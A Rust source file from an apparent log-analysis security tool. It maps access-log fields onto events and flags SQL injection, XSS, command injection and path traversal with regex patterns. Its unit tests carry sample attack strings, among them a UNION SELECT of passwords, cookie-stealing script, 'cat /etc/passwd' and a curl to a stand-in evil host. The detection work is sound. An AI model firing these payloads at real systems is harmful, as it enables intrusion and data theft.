//! HTTP requests: mapping access-log fields onto an event, and spotting attacks in the request
//! target (SQL injection, XSS, command injection, path traversal).
//!
//! Access-log fields arrive from two places — a Record in `AccessLog` format, and (after the
//! parse merge) an access-log line embedded in a syslog message — and both feed
//! [`apply_http_fields`], so the mapping lives in one place. The grammar route (`http.toml`,
//! captures straight into `http_*`) ends in the same event fields, and [`InjectionDetector`]
//! then reads only the event, whichever route filled it.

use std::borrow::Cow;

use regex_automata::{Input, meta};

use crate::event::{Event, Kind, parse_ip};

/// Field names an access log (or a JSON request log) uses, first present wins.
const METHOD: &[&str] = &["method", "http_method", "request_method"];
const PATH: &[&str] = &["path", "http_path", "request_uri", "uri", "url"];
const STATUS: &[&str] = &["status", "http_status", "status_code"];
const BYTES: &[&str] = &["bytes", "body_bytes_sent", "bytes_sent", "size"];
const REMOTE: &[&str] = &["remote_addr", "client_ip", "src_ip", "ip"];
const USER: &[&str] = &["user", "remote_user"];

/// First value among `names` (in that order of preference), matching keys case-insensitively.
pub(crate) fn field<'f>(
    fields: &'f [(Cow<'_, str>, Cow<'_, str>)],
    names: &[&str],
) -> Option<&'f str> {
    names.iter().find_map(|name| {
        fields
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_ref())
    })
}

/// A value that means "absent" in logs: empty or `-`.
fn present(v: &str) -> Option<&str> {
    let v = v.trim();
    (!v.is_empty() && v != "-").then_some(v)
}

/// Fill the `http.request` fields of `ev` from access-log `fields`. Returns false (and leaves
/// `ev` alone) when the fields do not describe a request (no method and no path).
pub(crate) fn apply_http_fields(fields: &[(Cow<'_, str>, Cow<'_, str>)], ev: &mut Event) -> bool {
    let method = field(fields, METHOD).and_then(present);
    let path = field(fields, PATH).and_then(present);
    if method.is_none() && path.is_none() {
        return false;
    }
    ev.kind = Kind::HttpRequest;
    ev.http_method = method.map(Into::into);
    ev.http_path = path.map(Into::into);
    ev.http_status = field(fields, STATUS).and_then(|s| s.trim().parse().ok());
    ev.bytes = field(fields, BYTES).and_then(|s| s.trim().parse().ok());
    if let Some(ip) = field(fields, REMOTE).and_then(parse_ip) {
        ev.src_ip = Some(ip);
    }
    if let Some(user) = field(fields, USER).and_then(present) {
        ev.user = Some(user.into());
    }
    true
}

/// True when `fields` name an HTTP method: what makes an application log line a request log
/// rather than, say, a line that merely has a `path`.
pub(crate) fn has_method(fields: &[(Cow<'_, str>, Cow<'_, str>)]) -> bool {
    field(fields, METHOD).and_then(present).is_some()
}

/// Fields of an access-log line embedded in a syslog message (nginx or apache logging through
/// syslog under an app name the grammars do not know). The common app names (nginx, apache2,
/// httpd) are covered by the `http.toml` grammar before this is tried.
pub(crate) fn embedded_access_log_fields(
    message: &str,
) -> Option<Vec<(Cow<'_, str>, Cow<'_, str>)>> {
    let log = crate::parse::parse_access_log(message)?;
    let mut fields = Vec::with_capacity(9);
    log.push_fields(&mut fields);
    Some(fields)
}

/// Attack categories, in the order of the pattern groups below; the text is the event reason.
const CATEGORIES: [&str; 4] = ["sqli", "xss", "cmd_injection", "path_traversal"];

/// Command names an injected shell command usually starts with.
const COMMANDS: &str = "cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|dash|rm|echo|ping|nslookup|dig|chmod|chown|python[23]?|perl|php|ruby|busybox|tftp|telnet|ifconfig|ps|kill|sleep|powershell|cmd|head|tail|env|printenv|pwd|base64";

fn attack_patterns() -> Vec<(usize, String)> {
    let sqli = [
        // Tautologies: `' OR '1'='1`, `admin' or 1=1`, `" or ""="`.
        r#"['"]\s*\)*\s*(?:or|and|\|\||&&)\s*\(*\s*['"]?\w*['"]?\s*(?:=|<|>|like\b)"#.to_string(),
        r"\b(?:or|and)\s+\d+\s*=\s*\d+".to_string(),
        // UNION-based, also with inline comments as separators.
        r"\bunion(?:\s|/\*.*?\*/)+(?:all(?:\s|/\*.*?\*/)+|distinct(?:\s|/\*.*?\*/)+)?select\b"
            .to_string(),
        // Stacked queries: `1;DROP TABLE users`.
        r";\s*(?:drop|truncate|alter|create)\s+(?:table|database|schema|user|view|index)\b"
            .to_string(),
        r";\s*(?:delete\s+from|insert\s+into|update\s+\w+\s+set|exec(?:ute)?\s+\w|shutdown\b|select\s+\S)"
            .to_string(),
        // A quote that closes the string and comments out the rest.
        r#"['"]\s*\)*\s*(?:--|#|/\*)"#.to_string(),
        r"\b(?:sleep|pg_sleep|benchmark)\s*\(\s*\d".to_string(),
        r"\bwaitfor\s+delay\s+'".to_string(),
        r"\binformation_schema\b|@@version\b|\bload_file\s*\(|\bxp_cmdshell\b|\binto\s+(?:out|dump)file\b"
            .to_string(),
    ];
    let xss = [
        r"<\s*/?\s*script\b".to_string(),
        r"\b(?:javascript|vbscript|livescript)\s*:".to_string(),
        r"<\s*(?:iframe|svg|object|embed|frameset|applet)\b".to_string(),
        r"<\s*\w+[^>]*\bon\w+\s*=".to_string(),
        r"(?:^|[\s/?&;'\x22<>])on(?:error|load|mouseover|mouseout|mouseenter|click|dblclick|focus|blur|animationstart|toggle|pageshow|submit|change|input|keydown|keyup|keypress|begin|wheel)\s*="
            .to_string(),
        r"\bdocument\s*\.\s*(?:cookie|domain|write)\b".to_string(),
        r#"\b(?:alert|prompt|confirm)\s*\(\s*(?:\d|document|['"`])"#.to_string(),
    ];
    let cmd = [
        format!(r"(?:;|\|\|?|&&|\n)\s*(?:{COMMANDS})(?:\s|$|[;|&<>])"),
        r"\$\(\s*[a-z]".to_string(),
        format!(r"`\s*(?:{COMMANDS})\b[^`]*`"),
        r"\$\{\s*(?:ifs|jndi\s*:)".to_string(),
        r"/bin/(?:ba|z|da)?sh\b|\bcmd(?:\.exe)?\s+/c\b".to_string(),
    ];
    let traversal = [
        r"\.\.[/\\]|[/\\]\.\.(?:$|[/\\?;])".to_string(),
        r"/etc/(?:passwd|shadow|group|hosts)\b|/proc/self/|\b(?:boot|win)\.ini\b|c:\\windows\\"
            .to_string(),
    ];
    let mut all = Vec::new();
    for (category, patterns) in [
        (0, sqli.as_slice()),
        (1, xss.as_slice()),
        (2, cmd.as_slice()),
        (3, traversal.as_slice()),
    ] {
        all.extend(patterns.iter().map(|p| (category, format!("(?i){p}"))));
    }
    all
}

/// Finds attacks in a request target after percent-decoding it.
///
/// ```
/// use secpipe::classify::InjectionDetector;
/// let d = InjectionDetector::new();
/// assert_eq!(d.detect("/item?id=1%27%20OR%20%271%27=%271"), Some("sqli"));
/// assert_eq!(d.detect("/hotels/union-square"), None);
/// ```
pub struct InjectionDetector {
    regex: meta::Regex,
    /// Category index of each pattern of `regex`.
    category_of: Vec<usize>,
}

impl Default for InjectionDetector {
    fn default() -> Self {
        Self::new()
    }
}

impl InjectionDetector {
    /// Compile the built-in attack patterns.
    pub fn new() -> InjectionDetector {
        let patterns = attack_patterns();
        let category_of = patterns.iter().map(|(c, _)| *c).collect();
        let texts: Vec<&str> = patterns.iter().map(|(_, p)| p.as_str()).collect();
        // The patterns are constants of this file, covered by the unit tests.
        #[allow(clippy::expect_used)]
        let regex = meta::Regex::new_many(&texts).expect("built-in attack patterns compile");
        InjectionDetector { regex, category_of }
    }

    /// The attack category (`sqli`, `xss`, `cmd_injection`, `path_traversal`) found in a
    /// request target, or `None`. Decodes percent-encoding repeatedly (double encoding) and
    /// `+` as a space in the query before matching, case-insensitively.
    pub fn detect(&self, target: &str) -> Option<&'static str> {
        let decoded = decode_target(target);
        let m = self.regex.search(&Input::new(decoded.as_ref()))?;
        let category = *self.category_of.get(m.pattern().as_usize())?;
        CATEGORIES.get(category).copied()
    }

    /// Turn an `http.request` event into `injection.attempt` when its path carries an attack.
    /// The http fields stay.
    pub(crate) fn apply(&self, ev: &mut Event) {
        if ev.kind != Kind::HttpRequest {
            return;
        }
        let Some(path) = ev.http_path.as_deref() else {
            return;
        };
        if let Some(category) = self.detect(path) {
            ev.kind = Kind::InjectionAttempt;
            ev.reason = Some(category.into());
        }
    }
}

/// Percent-decode until the text stops changing (at most a few rounds: attackers double- and
/// triple-encode to slip past single-decoding filters), with `+` as a space in the query.
fn decode_target(target: &str) -> Cow<'_, str> {
    let mut text = Cow::Borrowed(target);
    for _ in 0..4 {
        let plus_in_query = text.find('?').is_some_and(|q| text[q..].contains('+'));
        if !text.contains('%') && !plus_in_query {
            break;
        }
        let with_spaces: Cow<'_, str> = match text.find('?') {
            Some(q) if plus_in_query => {
                Cow::Owned(format!("{}{}", &text[..q], text[q..].replace('+', " ")))
            }
            _ => Cow::Borrowed(text.as_ref()),
        };
        let decoded = percent_encoding::percent_decode_str(&with_spaces).decode_utf8_lossy();
        if decoded == text {
            break;
        }
        text = Cow::Owned(decoded.into_owned());
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn decodes_double_encoding_and_plus() {
        assert_eq!(decode_target("%252e%252e%252f"), "../");
        assert_eq!(decode_target("/s?q=a+b"), "/s?q=a b");
        assert_eq!(decode_target("/a+b"), "/a+b");
        assert_eq!(decode_target("/plain"), "/plain");
    }

    #[test]
    fn attacks_are_found_with_their_category() {
        let d = InjectionDetector::new();
        let cases = [
            ("/login?user=admin' OR '1'='1", "sqli"),
            ("/item?id=1%27%20or%201=1--", "sqli"),
            (
                "/products?id=1 UNION SELECT username,password FROM users",
                "sqli",
            ),
            ("/products?id=1+union+all+select+1,2,3", "sqli"),
            ("/item?id=1;DROP TABLE users", "sqli"),
            ("/x?id=1%3BDROP%20TABLE%20users", "sqli"),
            ("/search?q=<script>alert(1)</script>", "xss"),
            (
                "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
                "xss",
            ),
            ("/r?next=javascript:alert(1)", "xss"),
            ("/p?x=<img src=x onerror=alert(1)>", "xss"),
            ("/p?x=\" onerror=alert(1)", "xss"),
            ("/ping?host=127.0.0.1;cat /etc/passwd", "cmd_injection"),
            ("/ping?host=$(id)", "cmd_injection"),
            ("/ping?host=`id`", "cmd_injection"),
            ("/ping?host=x|whoami", "cmd_injection"),
            ("/ping?host=x && curl http://evil/x.sh", "cmd_injection"),
            ("/download?file=../../etc/passwd", "path_traversal"),
            ("/download?file=..%2f..%2fetc%2fpasswd", "path_traversal"),
            (
                "/static/%252e%252e%252f%252e%252e%252fetc/passwd",
                "path_traversal",
            ),
            ("/files/..\\..\\windows\\win.ini", "path_traversal"),
        ];
        for (target, want) in cases {
            assert_eq!(d.detect(target), Some(want), "{target}");
        }
    }

    #[test]
    fn ordinary_requests_are_not_attacks() {
        let d = InjectionDetector::new();
        for target in [
            "/hotels/union-square",
            "/search?q=how+to+select+a+lawyer",
            "/search?q=how+to+select+a+lawyer+from+boston",
            "/js/description.js",
            "/blog/drop-shipping-guide",
            "/products?sort=price&order=desc",
            "/api/v1/users/42/orders?limit=10&offset=20",
            "/shop;jsessionid=ABC123?item=5",
            "/docs/scripting-guide.html",
            "/search?q=rock+%27n%27+roll",
            "/search?q=it%27s+or+never",
            "/online?session=1&onboarding=true",
            "/img/cat.png",
            "/selection/update-settings",
            "/a/b/./c.html",
            "/search?q=1%2B1%3D2",
        ] {
            assert_eq!(d.detect(target), None, "{target}");
        }
    }
}
